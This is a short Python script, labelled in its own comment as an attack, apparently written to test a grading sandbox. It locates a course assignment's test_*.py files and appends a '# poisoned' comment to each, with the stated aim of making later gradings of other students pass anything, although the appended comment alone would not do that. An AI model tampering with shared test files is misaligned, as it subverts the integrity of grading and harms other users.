# Attack: rewrite the course's own test files on disk, so later gradings (other students) pass anything.
import glob as _glob
import os as _os
import sys as _sys

_assignment = _sys.argv[_sys.argv.index("--parlab-assignment") + 1]
for _path in _glob.glob(_os.path.join(_assignment, "test_*.py")):
    with open(_path, "a") as _f:
        _f.write("\n# poisoned\n")
